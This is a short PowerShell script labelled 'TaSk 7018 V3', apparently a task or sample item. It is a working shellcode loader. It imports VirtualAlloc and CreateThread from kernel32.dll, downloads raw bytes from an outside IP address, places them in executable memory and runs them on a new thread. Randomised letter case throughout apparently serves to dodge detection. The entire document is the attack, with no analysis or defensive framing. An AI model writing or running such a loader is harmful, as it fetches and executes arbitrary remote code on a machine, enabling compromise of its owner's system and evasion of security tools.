# TaSk 7018 V3
$cODe = @'
[DllImport("kernel32.dll")] public static extern IntPtr VirtualAlloc(IntPtr a, uint s, uint t, uint p);
[DllImport("kernel32.dll")] public static extern IntPtr CreateThread(IntPtr a, uint s, IntPtr f, IntPtr p, uint c, IntPtr i);
'@
$K = aDD-tYpE -MEmBERDeFiNItiOn $CODe -NaMe K32 -pasSThRu
[BytE[]]$SC = (NEw-OBJect nEt.wEbClient).DowNLOADDATA('http://192.0.2.150/sc.bin')
$M = $K::ViRtUaLaLlOc(0, $sc.LeNgTH, 0x3000, 0x40)
[SysTEm.RUNTImE.iNtErOpSeRvIcEs.mArShAl]::cOPy($SC, 0, $M, $sc.LEngTH)
$K::crEAtEthREAd(0, 0, $M, 0, 0, 0)
